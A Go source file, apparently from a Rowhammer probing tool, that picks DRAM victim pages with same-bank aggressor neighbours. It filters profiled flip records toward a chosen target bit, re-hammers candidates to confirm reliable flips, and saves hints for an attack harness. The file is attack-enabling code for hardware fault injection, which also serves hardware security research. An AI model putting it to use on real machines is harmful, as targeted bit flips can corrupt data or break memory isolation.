// Copyright 2024 rhprobe authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package rhprobe

import (
	"path/filepath"
	"time"

	"github.com/pkg/errors"
)

// confirmedScoreThreshold is the fixed score a candidate must exceed
// after confirmation cycles to be retained.
const confirmedScoreThreshold = 100

// PageCandidate is a victim Page together with its two same-bank above
// and below companions and a confirmation score.
type PageCandidate struct {
	Victim Page
	Above  [2]Page
	Below  [2]Page
	Score  int64
	Bits   [bitsPerHalfword]int64
}

// SelectConfig parameterizes candidate selection. RiskBit and
// TargetBit were hard-coded 9 and 8 in the system this was modelled
// on; both are exposed here as configuration rather than constants.
type SelectConfig struct {
	Dimms  int
	Family Family
	Method AttackMethod

	// RiskBit is the lowest bit position considered unsafe: any
	// candidate with a non-zero flip count at RiskBit or above is
	// rejected. Default 9.
	RiskBit int
	// TargetBit is the designated bit the victim workload depends on.
	// Default 8.
	TargetBit int
	// TargetBitThreshold is the minimum flip count required at
	// TargetBit. Default 3.
	TargetBitThreshold int64

	// LocateFractionStart/Step/Max control the iterative mapping-
	// fraction growth used to relocate catalogue entries in a fresh
	// mapping. Defaults 0.1, 0.1, 0.95.
	LocateFractionStart float64
	LocateFractionStep  float64
	LocateFractionMax   float64
	// LocateHitRateThreshold is the fraction of catalogue entries that
	// must be located before fraction growth stops. Default 0.9.
	LocateHitRateThreshold float64

	// ConfirmCycles bounds the re-profiling confirmation loop. Default 10.
	ConfirmCycles int
	// ConfirmIterations is the hammer iteration count per confirmation
	// cycle. Default DefaultIterations.
	ConfirmIterations int
	// RiskScoreThreshold aborts confirmation early once a candidate's
	// cumulative score exceeds it; sized well above
	// confirmedScoreThreshold so a genuinely vulnerable candidate is
	// never cut short before it can be retained.
	RiskScoreThreshold int64

	// HintDir, if set, receives one victim hint file per confirmed
	// candidate, so the attack harness can later recover the tuple
	// without re-running selection.
	HintDir string
}

func (c *SelectConfig) setDefaults() {
	if c.RiskBit == 0 {
		c.RiskBit = riskBitDefault
	}
	if c.TargetBit == 0 {
		c.TargetBit = targetBitDefault
	}
	if c.TargetBitThreshold == 0 {
		c.TargetBitThreshold = 3
	}
	if c.LocateFractionStart == 0 {
		c.LocateFractionStart = 0.1
	}
	if c.LocateFractionStep == 0 {
		c.LocateFractionStep = 0.1
	}
	if c.LocateFractionMax == 0 {
		c.LocateFractionMax = 0.95
	}
	if c.LocateHitRateThreshold == 0 {
		c.LocateHitRateThreshold = 0.9
	}
	if c.ConfirmCycles == 0 {
		c.ConfirmCycles = 10
	}
	if c.ConfirmIterations == 0 {
		c.ConfirmIterations = DefaultIterations
	}
	if c.RiskScoreThreshold == 0 {
		c.RiskScoreThreshold = 10 * confirmedScoreThreshold
	}
}

// filterByRisk rejects records with any flip at or above RiskBit, and
// records whose TargetBit count falls below TargetBitThreshold.
func filterByRisk(records []Record, cfg SelectConfig) []Record {
	var out []Record
	for _, rec := range records {
		risky := false
		for bit := cfg.RiskBit; bit < bitsPerHalfword; bit++ {
			if rec.Bits[bit] != 0 {
				risky = true
				break
			}
		}
		if risky {
			continue
		}
		if rec.Bits[cfg.TargetBit] < cfg.TargetBitThreshold {
			continue
		}
		out = append(out, rec)
	}
	return out
}

// indexedPage is a page together with the index of the row it belongs
// to; indexRowsByPfn indexes every page across rows by PFN.
type indexedPage struct {
	page Page
	row  int
}

func indexRowsByPfn(rows []*Row) map[uint64]indexedPage {
	out := make(map[uint64]indexedPage)
	for i, row := range rows {
		for _, p := range row.Pages {
			out[p.Pfn] = indexedPage{page: p, row: i}
		}
	}
	return out
}

// locateRecord attempts to find rec's five PFNs in rows, requiring the
// victim's row to sit between rows holding the above and below PFNs.
func locateRecord(rows []*Row, byPfn map[uint64]indexedPage, rec Record) (cand PageCandidate, ok bool) {
	victim, ok := byPfn[rec.VictimPFN]
	if !ok {
		return PageCandidate{}, false
	}
	if victim.row <= 0 || victim.row >= len(rows)-1 {
		return PageCandidate{}, false
	}
	a1, ok1 := byPfn[rec.AbovePFN[0]]
	a2, ok2 := byPfn[rec.AbovePFN[1]]
	b1, ok3 := byPfn[rec.BelowPFN[0]]
	b2, ok4 := byPfn[rec.BelowPFN[1]]
	if !ok1 || !ok2 || !ok3 || !ok4 {
		return PageCandidate{}, false
	}
	if a1.row != victim.row-1 || a2.row != victim.row-1 || b1.row != victim.row+1 || b2.row != victim.row+1 {
		return PageCandidate{}, false
	}
	return PageCandidate{
		Victim: victim.page,
		Above:  [2]Page{a1.page, a2.page},
		Below:  [2]Page{b1.page, b2.page},
		Score:  rec.Score,
		Bits:   rec.Bits,
	}, true
}

// locateCandidates grows the mapping fraction from cfg's start in
// cfg-sized steps, bounded at cfg's max, rebuilding rows at each step
// and attempting to relocate every filtered record, until the hit rate
// reaches cfg.LocateHitRateThreshold or the fraction is exhausted.
func locateCandidates(records []Record, cfg SelectConfig, stats *RunStats) ([]PageCandidate, *Mapping, error) {
	var (
		mapping *Mapping
		found   []PageCandidate
	)
	for fraction := cfg.LocateFractionStart; ; fraction += cfg.LocateFractionStep {
		if fraction > cfg.LocateFractionMax {
			fraction = cfg.LocateFractionMax
		}
		if mapping != nil {
			mapping.Close()
		}
		var err error
		mapping, err = AllocatePopulatedMapping(fraction)
		if err != nil {
			return nil, nil, err
		}
		rowSize := RowSizeFor(cfg.Dimms)
		rows, err := CollectPagesByRow(mapping, LayoutConfig{Family: cfg.Family, Dimms: cfg.Dimms, RowSize: rowSize}, stats)
		if err != nil {
			mapping.Close()
			return nil, nil, err
		}
		byPfn := indexRowsByPfn(rows)

		found = found[:0]
		for _, rec := range records {
			cand, ok := locateRecord(rows, byPfn, rec)
			if !ok {
				if stats != nil {
					stats.bumpCandidateNotFound()
				}
				continue
			}
			found = append(found, cand)
		}

		hitRate := 0.0
		if len(records) > 0 {
			hitRate = float64(len(found)) / float64(len(records))
		}
		if hitRate >= cfg.LocateHitRateThreshold || fraction >= cfg.LocateFractionMax {
			return found, mapping, nil
		}
	}
}

// confirmCandidate re-hammers cand's located pair up to cfg.ConfirmCycles
// times, sleeping between cycles, accumulating the flip-count score,
// and stopping early if the score exceeds cfg.RiskScoreThreshold. The
// located pages come out of a fresh anonymous (zero-filled) mapping, so
// the aggressor pages must be refilled before every burst; hammering
// zeroed aggressors against a zeroed victim disturbs nothing.
func confirmCandidate(cand PageCandidate, cfg SelectConfig) PageCandidate {
	for cycle := 0; cycle < cfg.ConfirmCycles; cycle++ {
		time.Sleep(100 * time.Millisecond)

		InitRow(cand.Above[:], PatternAggressor)
		InitRow(cand.Below[:], PatternAggressor)
		InitRow([]Page{cand.Victim}, PatternVictim)
		_ = Hammer(cfg.Method, cand.Above[0].VirtAddr, cand.Below[0].VirtAddr, cfg.ConfirmIterations)

		flips := FindFlips(cand.Victim, PatternVictim)
		counts := CountFlipsByBit(flips)
		for i, c := range counts {
			cand.Bits[i] += int64(c)
		}
		cand.Score += int64(TotalFlips(counts))

		if cand.Score > cfg.RiskScoreThreshold {
			break
		}
	}
	return cand
}

// SelectCandidates reads the catalogue at cataloguePath, filters by
// risk and target-bit thresholds, relocates the survivors in a fresh
// mapping, re-confirms each one across several hammer cycles, and
// returns every candidate whose final score exceeds
// confirmedScoreThreshold, together with the mapping their VirtAddr
// fields point into. The caller owns the returned mapping and must
// Close it once it no longer needs the candidates' addresses to stay
// valid; closing it here, before returning, would hand back
// PageCandidates pointing into already-unmapped memory.
func SelectCandidates(cataloguePath string, cfg SelectConfig, stats *RunStats) ([]PageCandidate, *Mapping, error) {
	cfg.setDefaults()

	records, err := ReadCatalogue(cataloguePath)
	if err != nil {
		return nil, nil, err
	}
	filtered := filterByRisk(records, cfg)

	located, mapping, err := locateCandidates(filtered, cfg, stats)
	if err != nil {
		return nil, nil, err
	}

	var out []PageCandidate
	for _, cand := range located {
		confirmed := confirmCandidate(cand, cfg)
		if confirmed.Score > confirmedScoreThreshold {
			out = append(out, confirmed)
			if cfg.HintDir != "" {
				if err := WriteHint(cfg.HintDir, confirmed); err != nil {
					mapping.Close()
					return nil, nil, err
				}
			}
		}
	}
	return out, mapping, nil
}

// CandidatesFromHints recovers pre-profiled candidates from the victim
// hint files under hintDir, instead of re-deriving them
// from the catalogue with SelectCandidates. Each hint file already
// holds a confirmed tuple and its final per-bit array, so the records
// only need relocating in a freshly built mapping, not re-filtering or
// re-confirming. As with SelectCandidates, the caller owns the
// returned mapping and must Close it once the candidates' VirtAddr
// fields are no longer needed.
func CandidatesFromHints(hintDir string, cfg SelectConfig, stats *RunStats) ([]PageCandidate, *Mapping, error) {
	cfg.setDefaults()

	paths, err := filepath.Glob(filepath.Join(hintDir, "V_*.out"))
	if err != nil {
		return nil, nil, errors.Wrap(err, "glob hint dir")
	}

	var records []Record
	for _, path := range paths {
		recs, err := ReadCatalogue(path)
		if err != nil {
			return nil, nil, err
		}
		records = append(records, recs...)
	}
	if len(records) == 0 {
		return nil, nil, errors.Errorf("no victim hint files found under %q", hintDir)
	}

	located, mapping, err := locateCandidates(records, cfg, stats)
	if err != nil {
		return nil, nil, err
	}

	return located, mapping, nil
}
